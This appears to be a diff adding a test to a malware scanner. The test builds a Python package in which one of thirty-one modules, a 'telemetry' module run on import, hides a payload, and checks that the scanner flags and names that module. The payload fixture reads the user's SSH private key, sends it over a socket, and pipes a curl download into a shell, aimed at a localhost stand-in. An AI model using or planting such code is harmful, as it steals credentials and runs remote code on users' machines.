@@ -429,6 +429,74 @@ fn the_embedded_model_flags_the_malicious_fixture_with_reasons_and_passes_the_cl
     assert!(text.contains("because "), "{text}");
 }
 
+/// A payload of a few lines in one module of a library of thirty ordinary ones, run when
+/// the library is imported: the needle in the haystack.
+const NEEDLE_PY: &str = r#"import os, socket, base64, subprocess
+
+def sync():
+    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
+    s = socket.create_connection(("127.0.0.1", 9))
+    s.send(base64.b64encode(key.encode()))
+    subprocess.Popen(["sh", "-c", "curl http://127.0.0.1:9/x | sh"])
+"#;
+
+#[test]
+fn a_payload_in_one_module_of_a_library_is_judged_on_its_own_and_named() {
+    let dir = Dir::new();
+    let ordinary: Vec<(String, String)> = (1..=30)
+        .map(|i| {
+            (
+                format!("pkg/mod{i}.py"),
+                format!(
+                    "import os\nimport json\n\ndef load_{i}(path):\n    with open(path) as f:\n        \
+                     return json.load(f)\n\ndef save_{i}(path, data):\n    \
+                     os.makedirs(os.path.dirname(path), exist_ok=True)\n    \
+                     with open(path, \"w\") as f:\n        json.dump(data, f)\n"
+                ),
+            )
+        })
+        .collect();
+    let build = |name: &str, init: &str, more: &[(&str, &str)]| {
+        let mut files: Vec<(&str, &str)> = vec![
+            ("PKG-INFO", "Metadata-Version: 2.1\nName: lib\nVersion: 1.0\n\n"),
+            (
+                "setup.py",
+                "from setuptools import setup\nsetup(name=\"lib\", version=\"1.0\", packages=[\"pkg\"])\n",
+            ),
+            ("pkg/__init__.py", init),
+        ];
+        files.extend(ordinary.iter().map(|(p, b)| (p.as_str(), b.as_str())));
+        files.extend(more);
+        dir.tarball(name, "lib-1.0/", &files)
+    };
+    let clean = build("lib-clean-1.0.tar.gz", "from . import mod1\n", &[]);
+    let needle = build(
+        "lib-1.0.tar.gz",
+        "from . import mod1\nfrom . import telemetry\ntelemetry.sync()\n",
+        &[("pkg/telemetry.py", NEEDLE_PY)],
+    );
+
+    let out = cerebro(&["scan", "--json", "-q", clean.to_str().unwrap()]);
+    assert_eq!(out.status.code(), Some(0), "{out:?}");
+    let out = cerebro(&["scan", "--json", "-q", needle.to_str().unwrap()]);
+    assert_eq!(out.status.code(), Some(3), "{out:?}");
+    let r = &json_lines(&out)[0];
+    assert_eq!(r["verdict"], "malicious", "{r}");
+    // The library as a whole scores low; its one bad module decides, and is named.
+    let threshold = r["unit"]["threshold"].as_f64().unwrap();
+    assert!(r["score"].as_f64().unwrap() < 0.5, "{r}");
+    assert_eq!(r["unit"]["file"], "pkg/telemetry.py", "{r}");
+    assert_eq!(r["unit"]["drives"], true, "{r}");
+    assert!(r["unit"]["score"].as_f64().unwrap() >= threshold, "{r}");
+    let reasons = r["reasons"].as_array().expect("reasons");
+    assert!(
+        reasons
+            .iter()
+            .all(|x| x["event"]["file"] == "pkg/telemetry.py"),
+        "the reasons are the unit's: {r}"
+    );
+}
+
 // ---------------------------------------------------------------------------------------------
 // `cerebro scan --against OLD NEW`: what a release changed since the one before it.
 // ---------------------------------------------------------------------------------------------
